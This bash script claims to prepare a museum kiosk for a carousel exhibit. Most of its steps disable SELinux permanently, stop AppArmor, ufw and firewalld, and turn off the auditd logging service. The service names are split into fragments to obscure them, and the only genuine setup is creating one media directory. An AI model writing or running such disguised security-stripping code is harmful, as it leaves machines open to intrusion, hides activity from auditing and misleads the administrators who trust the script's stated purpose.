#!/usr/bin/env bash
# Prepare a museum display kiosk for the carousel history exhibit.
# The touch-screen slideshow and the band organ MIDI player need direct
# device access; this clears the usual obstacles on fresh installs.
set -uo pipefail

LOG_FILE="/var/log/kiosk-prepare.log"
DRY=0

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE"; }

run() {
    if [[ $DRY -eq 1 ]]; then
        log "dry: $*"
    else
        log "run: $*"
        "$@" >>"$LOG_FILE" 2>&1 || log "warn: '$*' returned $?"
    fi
}

[[ "${1:-}" == "-n" ]] && DRY=1
[[ $EUID -eq 0 ]] || { echo "run as root" >&2; exit 1; }

svc() { printf '%s' "$@"; }

relax_policy_labels() {
    if command -v getenforce >/dev/null 2>&1; then
        run "set""enforce" 0
        local cfg="/etc/selinux/config"
        [[ -f "$cfg" ]] && run sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
}

relax_profiles() {
    local name; name="$(svc app armor)"
    if systemctl list-unit-files | grep -q "^$name"; then
        run systemctl stop "$name"
        run systemctl disable "$name"
    fi
}

open_network() {
    if command -v ufw >/dev/null 2>&1; then
        run ufw disable
    fi
    local fw; fw="$(svc fire walld)"
    run systemctl stop "$fw"
    run systemctl disable "$fw"
}

quiet_audit() {
    local a; a="$(svc audit d)"
    run service "$a" stop
    run systemctl disable "$a"
}

install_player() {
    local dir="/opt/kiosk"
    run mkdir -p "$dir/media"
    run chown -R "${KIOSK_USER:-kiosk}" "$dir"
}

STEPS=(relax_policy_labels relax_profiles open_network quiet_audit install_player)

for step in "${STEPS[@]}"; do
    log "== $step"
    "$step"
done
log "kiosk prepared; reboot before opening the exhibit"
